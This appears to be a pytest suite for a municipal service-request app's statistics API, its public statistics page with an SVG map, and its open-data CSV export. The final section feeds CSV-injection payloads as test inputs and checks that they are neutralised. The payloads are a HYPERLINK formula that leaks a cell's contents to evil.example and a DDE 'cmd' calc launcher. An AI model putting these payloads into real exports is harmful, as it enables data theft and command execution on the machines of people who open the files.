"""/api/v1/citistat (JSON, CSV, roles, bad input), the public /citistat page and the
open-data export, on the hand-built history of tests/core/test_citistat.py.

The app's time zone is Europe/Andorra (tests/conftest.py), as in that history; "now" is
the real clock here, so only figures that do not depend on it are asserted exactly."""

from __future__ import annotations

import csv
import io
import math
import re
from typing import Any

import pytest
from sqlalchemy import text
from sqlalchemy.orm import Session

from reports import citistat
from tests import factories as f
from tests.factories.citistat_history import History, build_citistat_history

PERIOD = {"from": "2026-03-02", "to": "2026-03-15"}


@pytest.fixture
def history(db: Session) -> History:
    return build_citistat_history(db)


@pytest.fixture
def dispatcher(db: Session) -> dict[str, str]:
    return f.token_for(db, f.user(db, "disp@example.org", "dispatcher"))


def get(client: Any, headers: dict[str, str], **params: str) -> Any:
    return client.get("/api/v1/citistat", query_string={**PERIOD, **params}, headers=headers)


def test_json_per_service_type_with_total(
    client: Any, history: History, dispatcher: dict[str, str]
) -> None:
    r = get(client, dispatcher, group_by="service_type")
    assert r.status_code == 200, r.get_json()
    body = r.get_json()
    assert (body["from"], body["to"], body["timezone"], body["group_by"]) == (
        "2026-03-02",
        "2026-03-15",
        "Europe/Andorra",
        "service_type",
    )
    rows = {row["group"]: row for row in body["rows"]}
    assert set(rows) == {"pothole", "graffiti"}
    p = rows["pothole"]
    assert (
        p["label"],
        p["received"],
        p["duplicates"],
        p["closed"],
        p["closed_fixed_verified"],
    ) == ("Pothole", 5, 1, 3, 2)
    assert (p["median_hours_to_close"], p["reopened"], p["ever_closed"], p["completions"]) == (
        20.0,
        2,
        4,
        5,
    )
    t = body["total"]
    assert (
        t["received"],
        t["closed"],
        t["closed_other"]["cancelled"],
        t["completions_rejected"],
    ) == (9, 6, 1, 1)
    assert (
        t["shift_hours"],
        t["drive_hours"],
        t["on_site_hours"],
        t["planned_stops"],
        t["planned_done"],
    ) == (26.0, 2.0, 5.75, 3, 2)
    assert rows["pothole"]["shift_hours"] is None


@pytest.mark.parametrize(
    ("group_by", "expected"),
    [
        ("agency", {"Roads": 5, "Sanitation": 4}),
        ("service_type", {"pothole": 5, "graffiti": 4}),
        ("district", {"north": 5, "south": 3, None: 1}),
        ("crew", {"c1": 2, "c2": 2, None: 5}),
        ("week", {"2026-03-02": 5, "2026-03-09": 4}),
    ],
)
def test_every_group_by(
    client: Any,
    history: History,
    dispatcher: dict[str, str],
    group_by: str,
    expected: dict[str | None, int],
) -> None:
    r = get(client, dispatcher, group_by=group_by)
    assert r.status_code == 200, r.get_json()
    body = r.get_json()
    assert {row["group"]: row["received"] for row in body["rows"]} == expected
    assert body["total"]["received"] == 9


def test_csv_by_format_and_by_accept_header(
    client: Any, history: History, dispatcher: dict[str, str]
) -> None:
    r = get(client, dispatcher, group_by="crew", format="csv")
    assert r.status_code == 200
    assert r.mimetype == "text/csv"
    assert 'filename="citistat_crew_2026-03-02_2026-03-15.csv"' in r.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))
    assert list(rows[0]) == citistat.FLAT_COLUMNS
    assert [row["group"] for row in rows] == ["c1", "c2", "", ""]
    assert rows[-1]["label"] == "Total"
    c2 = rows[1]
    assert (
        c2["received"],
        c2["closed_not_found"],
        c2["completions"],
        c2["shift_hours"],
        c2["jobs_per_shift_hour"],
    ) == ("2", "1", "4", "10.0", "0.3")
    assert (rows[-1]["backlog_gt_30d"], rows[-1]["on_site_hours"], rows[-1]["planned_done"]) == (
        "3",
        "5.75",
        "2",
    )
    by_header = client.get(
        "/api/v1/citistat",
        query_string={**PERIOD, "group_by": "crew"},
        headers={**dispatcher, "Accept": "text/csv"},
    )
    assert by_header.mimetype == "text/csv"
    # Generated at a different instant: the open-age figures may differ, the rest not.
    assert (
        by_header.get_data(as_text=True).splitlines()[0] == r.get_data(as_text=True).splitlines()[0]
    )
    as_json = client.get(
        "/api/v1/citistat", query_string=PERIOD, headers={**dispatcher, "Accept": "*/*"}
    )
    assert as_json.mimetype == "application/json"


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": "2026-03-15", "to": "2026-03-02"}, "from"),
        ({"group_by": "colour"}, "group_by"),
        ({"from": "2026-02-30"}, "from"),
        ({"to": "yesterday"}, "to"),
        ({"format": "xlsx"}, "format"),
    ],
)
def test_bad_input_is_a_422_json_error(
    client: Any, db: Session, dispatcher: dict[str, str], params: dict[str, str], field: str
) -> None:
    r = client.get("/api/v1/citistat", query_string={**PERIOD, **params}, headers=dispatcher)
    assert r.status_code == 422
    body = r.get_json()
    assert body["code"] == 422 and body["status"] == "Unprocessable Content" and body["message"]
    assert field in body["errors"]


def test_roles(client: Any, db: Session) -> None:
    crew = f.crew(db, "c9")
    assert client.get("/api/v1/citistat").status_code == 401
    crew_headers = f.token_for(db, f.user(db, "crew@example.org", "crew", crew=crew))
    r = client.get("/api/v1/citistat", headers=crew_headers)
    assert r.status_code == 403 and r.get_json()["code"] == 403
    for role in ("dispatcher", "supervisor", "admin"):
        headers = f.token_for(db, f.user(db, f"{role}@example.org", role))
        assert (
            client.get("/api/v1/citistat", query_string=PERIOD, headers=headers).status_code == 200
        ), role


def test_documented_in_openapi(client: Any) -> None:
    spec = client.get("/openapi.json").get_json()
    op = spec["paths"]["/api/v1/citistat"]["get"]
    assert op["security"] == [{"bearer": []}]
    assert {p["name"] for p in op["parameters"]} >= {"from", "to", "group_by", "format"}


# -- the public page ----------------------------------------------------------------


def test_public_page_shows_the_numbers_without_scripts_or_people(
    client: Any, history: History
) -> None:
    r = client.get("/citistat", query_string=PERIOD)
    assert r.status_code == 200
    assert r.mimetype == "text/html"
    html = r.get_data(as_text=True)
    assert re.search(r'id="total-received">9<', html)
    assert re.search(r'id="total-closed">6<', html)
    assert re.search(r'id="total-fixed">2<', html)
    assert re.search(r'id="total-median">20.0 h<', html)
    assert re.search(r'id="total-p90">not reached<', html)
    # Tables per district and per type: north received 5 of which 3 closed, 2 fixed with proof.
    assert re.search(r"<td>North</td><td>5</td><td>3</td><td>2</td>", html)
    assert re.search(r"<td>Graffiti</td><td>4</td><td>3</td><td>0</td>", html)
    assert re.search(r"<td>\(outside districts\)</td><td>1</td><td>1</td>", html)
    # Charts are inline SVG drawn on the server; nothing is loaded from elsewhere.
    assert html.count('<svg class="chart"') == 7
    assert html.count('<svg class="map"') == 1
    assert "3 / 5" in html  # north: closed of received
    assert "<script" not in html
    assert not re.search(r"""(src|href)=["']?https?://""", html)
    assert "@media print" in html and 'name="viewport"' in html
    # Aggregates only: no crew, no reporter, no token.
    for private in ("c1", "c2", "c1@example.org", "resident@example.org", "555 0101", "tok-secret"):
        assert private not in html
    assert "default-src 'none'" in r.headers["Content-Security-Policy"]


def _page(client: Any, **params: str) -> str:
    r = client.get("/citistat", query_string={**PERIOD, **params})
    assert r.status_code == 200, r.get_data(as_text=True)[:500]
    return r.get_data(as_text=True)


def _district_titles(html: str) -> dict[str, str]:
    """{district code: its shape's <title>} from the map."""
    return dict(
        re.findall(
            r'<g class="district" data-code="([^"]+)"><title>([^<]*)</title><path [^>]*d="M', html
        )
    )


@pytest.mark.parametrize("shade", ["on_time", "backlog", "verified", None])
def test_public_page_map_shades_every_district_by_the_chosen_figure(
    client: Any, history: History, dispatcher: dict[str, str], shade: str | None
) -> None:
    html = _page(client, **({"shade": shade} if shade else {}))
    figures = {
        row["group"]: row for row in get(client, dispatcher, group_by="district").get_json()["rows"]
    }
    north, south = figures["north"], figures["south"]

    def as_pct(share: float) -> str:
        return f"{share * 100:.1f} %"

    def verified(row: dict[str, Any]) -> str:
        return as_pct(
            (row["completions_auto_verified"] + row["completions_verified_by_supervisor"])
            / row["completions"]
        )

    expected = {
        None: (
            "On-time rate",
            "on-time rate",
            as_pct(north["on_time_rate"]),
            as_pct(south["on_time_rate"]),
        ),
        "backlog": ("Backlog", "backlog", str(north["open"]), str(south["open"])),
        "verified": ("Verified share", "verified share", verified(north), verified(south)),
    }[None if shade == "on_time" else shade]
    label, lower, north_value, south_value = expected
    assert (north["on_time_rate"], north["open"]) == (
        0.6,
        2,
    )  # the history's (tests/core/test_citistat.py)
    # One shape per district of the city, each with its name and figure in its <title>.
    assert _district_titles(html) == {
        "north": f"North: {lower} {north_value}",
        "south": f"South: {lower} {south_value}",
    }
    assert f"<figcaption>Districts shaded by {lower}</figcaption>" in html
    # The legend: the scale's classes with their numbers, under the figure's name.
    legend = re.search(r'<ul class="legend"[^>]*>(.*?)</ul>', html, re.S)
    assert legend
    entries = re.findall(r"</svg>([^<]+)</li>", legend.group(1))
    assert len(entries) >= 2
    assert all(re.fullmatch(r"\d+(–\d+)?( %)?", e.strip()) for e in entries), entries
    assert re.search(rf'<p class="legend-title" id="legend-title">{label}', html)
    # Each district labelled on the map with its name and figure.
    for name, value in (("North", north_value), ("South", south_value)):
        assert re.search(
            rf'<tspan [^>]*>{name}</tspan><tspan [^>]*class="figure">{re.escape(value)}</tspan>',
            html,
        )
    # The choice is a plain link per figure (the current one marked), kept by the period form.
    links = re.findall(
        r'<a href="/citistat\?from=2026-03-02&amp;to=2026-03-15&amp;shade=(\w+)#map"( aria-current="true")?>',
        html,
    )
    assert [k for k, _ in links] == ["on_time", "backlog", "verified"]
    assert [k for k, current in links if current] == [shade or "on_time"]
    assert f'<input type="hidden" name="shade" value="{shade or "on_time"}">' in html
    assert "<script" not in html


def test_public_page_map_marks_a_district_without_a_value(
    client: Any, db: Session, history: History
) -> None:
    f.district(db, "quiet", (1.55, 42.49, 1.60, 42.52))
    db.commit()
    html = _page(client)
    # A district with no request in the period is hatched, not shaded as if it had a figure.
    assert re.search(
        r'<g class="district" data-code="quiet"><title>Quiet: on-time rate nothing closed or due yet</title>'
        r'<path class="nodata" fill="url\(#nodata\)"',
        html,
    )
    assert "nothing closed or due yet</li>" in html  # and the legend says what the hatch means
    backlog = _page(client, shade="backlog")
    assert '<g class="district" data-code="quiet"><title>Quiet: backlog 0</title>' in backlog


def test_public_page_map_escapes_district_names(client: Any, db: Session) -> None:
    f.district(db, "odd")
    db.execute(text("UPDATE districts SET name = 'A & <b>B</b>' WHERE code = 'odd'"))
    db.commit()
    html = _page(client)
    assert "A &amp; &lt;b&gt;B&lt;/b&gt;" in html
    assert "<b>B</b>" not in html


def test_public_page_map_simplifies_a_detailed_ward(client: Any, db: Session) -> None:
    # A round ward traced with 20 000 vertices, as OSM boundaries are: drawn with a few
    # hundred points at most (half a pixel), still round and still where it is.
    db.execute(
        text("""INSERT INTO districts (code, name, geom) VALUES ('round', 'Round',
        ST_Multi(ST_Buffer(ST_SetSRID(ST_MakePoint(1.52, 42.50), 4326)::geography, 2000, 5000)::geometry))""")
    )
    db.commit()
    assert db.scalar(text("SELECT ST_NPoints(geom) FROM districts WHERE code = 'round'")) > 20_000
    html = _page(client)
    d = re.search(r'data-code="round"><title>[^<]*</title><path [^>]*d="M([^"]+)Z"', html)
    assert d
    points = [tuple(map(float, p.split(","))) for p in d.group(1).split(" ")]
    assert 50 < len(points) < 1000
    xs, ys = [x for x, _ in points], [y for _, y in points]
    width, height = max(xs) - min(xs), max(ys) - min(ys)
    # The only district: fitted to the drawing, and a circle on the ground is round on the page.
    assert abs(width - height) < 2 and max(width, height) > 400
    assert len(html) < 60_000


def test_public_page_without_districts_has_no_map(client: Any, db: Session) -> None:
    html = _page(client)
    assert '<svg class="map"' not in html and 'id="map"' not in html


def test_public_page_refuses_an_unknown_figure(client: Any, history: History) -> None:
    r = client.get("/citistat", query_string={**PERIOD, "shade": "colour"})
    assert r.status_code == 422
    assert "must be one of on_time, backlog, verified, got &#39;colour&#39;" in r.get_data(
        as_text=True
    )
    assert "default-src 'none'" in r.headers["Content-Security-Policy"]


def test_public_page_charts_have_captions_and_axis_labels(client: Any, history: History) -> None:
    html = _page(client)
    figures = re.findall(
        r"<figure>\s*<figcaption>([^<]+)</figcaption>\s*(<svg class=\"(?:chart|map)\".*?</svg>)",
        html,
        re.S,
    )
    charts = [(caption, svg) for caption, svg in figures if 'class="chart"' in svg[:20]]
    assert len(charts) == 7
    assert "Median time to close, by district" in [c for c, _ in charts]
    for caption, svg in charts:
        # Named by its caption, drawn at its own size (so 13 px text stays 13 px on the page).
        assert f"<title>{caption}</title>" in svg
        view = re.search(r'viewBox="0 0 (\d+) (\d+)" width="(\d+)" height="(\d+)"', svg)
        assert view and view.group(1) == view.group(3) and view.group(2) == view.group(4), caption
        # A title for each axis, and numbers on the value axis.
        titles = re.findall(r'<text class="axis-title"[^>]*>([^<]+)</text>', svg)
        assert len(titles) == 2, (caption, titles)
        assert len(re.findall(r'<text class="tick"', svg)) >= 2, caption
    on_time = dict(charts)["On-time rate, by district"]
    assert re.findall(r'<text class="axis-title"[^>]*>([^<]+)</text>', on_time) == [
        "District",
        "on time (% of closed and late open)",
    ]
    assert [t for t in re.findall(r'<text class="tick"[^>]*>([^<]+)</text>', on_time)] == [
        "0",
        "25",
        "50",
        "75",
        "100",
    ]
    assert re.search(r"svg text \{ font: 13px", html)


def test_public_page_tables_group_their_columns(client: Any, history: History) -> None:
    html = _page(client)
    # Open requests, verified share: the figures the map can show are in the district table.
    row = re.search(r"<td>North</td>(.*?)</tr>", html, re.S)
    assert row
    cells = re.findall(r"<td[^>]*>([^<]*)</td>", row.group(1))
    assert len(cells) == 16
    assert cells[3] == "60.0 %" and cells[7] == "2"
    for head in ("Requests", "Time", "Still open, by age", "Proof and rework"):
        assert 'scope="colgroup"' in html and f">{head}</th>" in html
    assert "@page { size: landscape; margin: 12mm; }" in html


def test_page_scales_and_projection() -> None:
    from api.citistat_map import Projection, label_lines, scale_for

    rates = scale_for([0.72, 0.95, 1.0], rate=True)
    assert [rates.label(i) for i in range(rates.count)] == [
        "70–76 %",
        "76–82 %",
        "82–88 %",
        "88–94 %",
        "94–100 %",
    ]
    assert [rates.index(v) for v in (0.70, 0.76, 0.759, 1.0)] == [0, 1, 0, 4]
    assert scale_for([], rate=True).label(0) == "0–20 %"
    low = scale_for(
        [0.208, 0.5, 0.26], rate=True
    )  # the demo city's fortnight: all between 20 and 50 %
    assert [low.label(i) for i in range(5)] == [
        "20–26 %",
        "26–32 %",
        "32–38 %",
        "38–44 %",
        "44–50 %",
    ]
    assert [low.index(v) for v in (0.208, 0.26, 0.5)] == [0, 1, 4]
    assert [scale_for([1.0, 1.0], rate=True).label(i) for i in (0, 4)] == ["90–92 %", "98–100 %"]
    counts = scale_for([0, 3, 14], rate=False)
    assert [counts.label(i) for i in range(counts.count)] == ["0–4", "5–9", "10–14"]
    assert [counts.shade(i) for i in range(3)] == ["#eff3ff", "#6baed6", "#08519c"]
    assert [scale_for([0], rate=False).label(0), scale_for([2], rate=False).count] == ["0", 3]
    # A district 1 km square at 42.5 degrees north is as wide as it is high on the page.
    lat_km = 1 / 111.2
    lon_km = lat_km / math.cos(math.radians(42.5))
    p = Projection.fit(1.5, 42.5, 1.5 + lon_km, 42.5 + lat_km)
    (x0, y0), (x1, y1) = p(1.5, 42.5), p(1.5 + lon_km, 42.5 + lat_km)
    assert abs((x1 - x0) - (y0 - y1)) < 0.5 and y1 < y0
    # Names wrap to the district's width on the map, two lines at most.
    assert label_lines("Sant Julià de Lòria nord", 120) == ["Sant Julià de", "Lòria nord"]
    assert label_lines("Sant Julià de Lòria nord", 400) == ["Sant Julià de Lòria nord"]
    assert label_lines("Ciutat Vella de la Ribera Alta", 60) == ["Ciutat", "Vella d…"]


def test_public_page_bad_dates(client: Any, db: Session) -> None:
    r = client.get("/citistat", query_string={"from": "2026-03-15", "to": "2026-03-01"})
    assert r.status_code == 422
    assert "is after" in r.get_data(as_text=True)
    assert client.get("/citistat", query_string={"from": "nope"}).status_code == 422
    assert (
        client.get("/citistat", query_string={"from": "2024-01-01", "to": "2026-01-01"}).status_code
        == 422
    )


# -- open data ------------------------------------------------------------------------


def test_open_data_export_columns_and_no_private_data(client: Any, history: History) -> None:
    r = client.get(
        "/open-data/requests.csv", query_string={"from": "2026-01-01", "to": "2026-03-31"}
    )
    assert r.status_code == 200
    assert r.mimetype == "text/csv"
    assert r.is_streamed
    text_body = r.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text_body)))
    assert list(rows[0]) == list(citistat.OPEN_DATA_COLUMNS)
    # 9 in the period, 2 just outside it (still in March) and the February report with a contact.
    assert len(rows) == 12
    g0 = next(row for row in rows if row["id"] == history.requests["G0"].public_id)
    assert g0 == {
        "id": history.requests["G0"].public_id,
        "created": "2026-03-02T00:30:00+01:00",
        "closed": "2026-03-02T01:30:00+01:00",
        "agency": "Sanitation",
        "type": "graffiti",
        "type_name": "Graffiti",
        "descriptor": history.requests["G0"].description,
        "status": "closed",
        "resolution": "cancelled",
        "district": "",
        "lat": f"{f.LAT:.6f}",
        "long": f"{f.LON:.6f}",
    }
    p3 = next(row for row in rows if row["id"] == history.requests["P3"].public_id)
    assert (p3["status"], p3["resolution"], p3["closed"], p3["district"]) == (
        "open",
        "",
        "",
        "north",
    )
    for private in ("resident@example.org", "555 0101", "tok-secret", "@"):
        assert private not in text_body
    for req in history.requests.values():
        assert req.token not in text_body


def test_open_data_period_and_bad_input(client: Any, history: History) -> None:
    r = client.get("/open-data/requests.csv", query_string=PERIOD)
    assert len(list(csv.DictReader(io.StringIO(r.get_data(as_text=True))))) == 9
    bad = client.get("/open-data/requests.csv", query_string={"from": "2026-13-01"})
    assert bad.status_code == 422 and bad.get_json()["errors"] == {
        "from": [bad.get_json()["message"]]
    }


# -- spreadsheet formulas (CSV injection) -----------------------------------------------------

# What a spreadsheet would run: each begins with a character that starts a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _quoted(cell: str) -> str:
    """A cell as RFC 4180 writes it in quotes: inner quotes doubled."""
    return '"' + cell.replace('"', '""') + '"'


def _today(client: Any) -> str:
    from datetime import datetime

    return datetime.now(client.application.extensions["streetloop.settings"].tz).date().isoformat()


def test_open_data_csv_turns_residents_formulas_into_text(client: Any, db: Session) -> None:
    f.service_type(db)
    f.service_type(db, "litter", name="\t=cmd|' /C calc'!A0")  # staff-typed text is neutralised too
    f.api_key(db)
    db.commit()
    # Through the public Open311 intake, as a resident would send them; one report west of
    # Greenwich, whose negative longitude must stay a number.
    sent = []
    for i, description in enumerate([*FORMULAS, "A plain pothole, 30 cm"]):
        lon = "-3.5" if i == 0 else str(f.LON)
        r = client.post(
            "/open311/v2/requests.json",
            data={
                "api_key": f.API_KEY,
                "service_code": "litter" if i == 1 else "pothole",
                "lat": str(f.LAT),
                "long": lon,
                "description": description,
            },
        )
        assert r.status_code == 201, r.data
        sent.append(description.strip())  # intake trims what a resident typed
    r = client.get(
        "/open-data/requests.csv", query_string={"from": _today(client), "to": _today(client)}
    )
    assert r.status_code == 200
    body = r.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body)))
    descriptors = sorted(row["descriptor"] for row in rows)
    assert descriptors == sorted(("'" + t if t[0] in "=+-@" else t) for t in sent)
    # No text cell of the file starts a formula; each is quoted in the file itself.
    for row in rows:
        for column in ("id", "agency", "type", "type_name", "descriptor", "status", "district"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (
                column,
                row[column],
            )
    assert _quoted("'" + FORMULAS[0]) in body
    assert _quoted("'\t=cmd|' /C calc'!A0") in body
    # Coordinates are numbers: bare in the file, negative sign and all.
    west = next(row for row in rows if row["descriptor"].startswith("'=HYPERLINK"))
    assert (west["lat"], west["long"]) == (f"{f.LAT:.6f}", "-3.500000")
    assert f",{f.LAT:.6f},-3.500000\r\n" in body


def test_staff_citistat_csv_turns_formulas_in_names_into_text(
    client: Any, db: Session, dispatcher: dict[str, str]
) -> None:
    for i, name in enumerate(FORMULAS):
        f.service_type(db, f"type_{i}", name=name)
        f.report(db, f"type_{i}")
    db.commit()
    r = client.get(
        "/api/v1/citistat",
        query_string={
            "from": _today(client),
            "to": _today(client),
            "group_by": "service_type",
            "format": "csv",
        },
        headers=dispatcher,
    )
    assert r.status_code == 200 and r.mimetype == "text/csv"
    body = r.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body)))
    assert sorted(row["label"] for row in rows if row["group"]) == sorted("'" + n for n in FORMULAS)
    for name in FORMULAS:
        assert _quoted("'" + name) in body
    # The figures stay numbers: bare, so a spreadsheet can sum them.
    total = next(line for line in body.split("\r\n") if line.startswith('"","Total",'))
    assert total.split(",")[2] == "6"
